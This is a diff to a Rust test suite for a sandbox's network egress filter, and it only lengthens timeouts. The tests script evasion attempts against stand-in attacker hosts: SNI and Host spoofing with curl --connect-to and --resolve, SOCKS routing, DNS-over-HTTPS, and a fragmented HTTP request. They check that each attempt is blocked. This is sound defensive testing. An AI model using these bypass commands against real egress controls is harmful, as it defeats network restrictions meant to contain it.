@@ -8,8 +8,8 @@ use crate::{assert_nothing_leaked, shared};
 fn connect_to_one_name_with_the_sni_of_another() {
     let world = shared::world();
     let ran = sandbox(&world).allow("dual.example.com").sh(
-        "curl -sk -m 5 --connect-to evil.example.net:443:dual.example.com:443 https://evil.example.net/ && echo served; \
-         curl -sk -m 5 --noproxy '*' --connect-to evil.example.net:443:dual.example.com:443 https://evil.example.net/ && echo served",
+        "curl -sk -m 25 --connect-to evil.example.net:443:dual.example.com:443 https://evil.example.net/ && echo served; \
+         curl -sk -m 25 --noproxy '*' --connect-to evil.example.net:443:dual.example.com:443 https://evil.example.net/ && echo served",
     );
     assert_eq!(ran.out(), "", "{ran}");
     assert_eq!(ran.records.about("evil.example.net").len(), 2, "{ran}");
@@ -26,9 +26,9 @@ fn connect_to_one_name_with_the_sni_of_another() {
 fn the_attacker_s_address_with_the_sni_of_a_listed_name() {
     let world = shared::world();
     let ran = sandbox(&world).allow("dual.example.com").sh(
-        "curl -sk -m 5 --noproxy '*' --resolve dual.example.com:443:203.0.113.90 https://dual.example.com/ && echo served; \
-         curl -sk -m 5 --socks5 10.0.2.2:1080 --resolve dual.example.com:443:203.0.113.90 https://dual.example.com/ && echo served; \
-         curl -sk -m 5 --connect-to dual.example.com:443:203.0.113.90:443 https://dual.example.com/ && echo served",
+        "curl -sk -m 25 --noproxy '*' --resolve dual.example.com:443:203.0.113.90 https://dual.example.com/ && echo served; \
+         curl -sk -m 25 --socks5 10.0.2.2:1080 --resolve dual.example.com:443:203.0.113.90 https://dual.example.com/ && echo served; \
+         curl -sk -m 25 --connect-to dual.example.com:443:203.0.113.90:443 https://dual.example.com/ && echo served",
     );
     assert_eq!(ran.out(), "", "{ran}");
     for protocol in ["kernel", "socks5", "connect"] {
@@ -170,7 +170,7 @@ fn dns_over_tls_https_and_quic_to_unlisted_servers() {
     }
     let ran = sandbox(&world)
         .allow("dual.example.com")
-        .sh("curl -sk -m 5 --doh-url https://8.8.8.8/dns-query --noproxy '*' https://doh.evil.example.net/ && echo served");
+        .sh("curl -sk -m 25 --doh-url https://8.8.8.8/dns-query --noproxy '*' https://doh.evil.example.net/ && echo served");
     assert_eq!(ran.out(), "", "{ran}");
     assert_nothing_leaked(&world);
 }
@@ -181,7 +181,7 @@ fn a_request_in_pieces_does_not_hide_its_host() {
     let ran = sandbox(&world).allow("dual.example.com").python(
         "import gate, time\n\
          s = gate.tcp('dual.example.com', 80)\n\
-         s.sendall(b'GE'); time.sleep(1)\n\
+         s.sendall(b'GE'); time.sleep(3)\n\
          s.sendall(b'T / HTTP/1.1\\r\\nHost: pieces.evil.example.net\\r\\n\\r\\n')\n\
          print(gate.read_all(s))",
     );
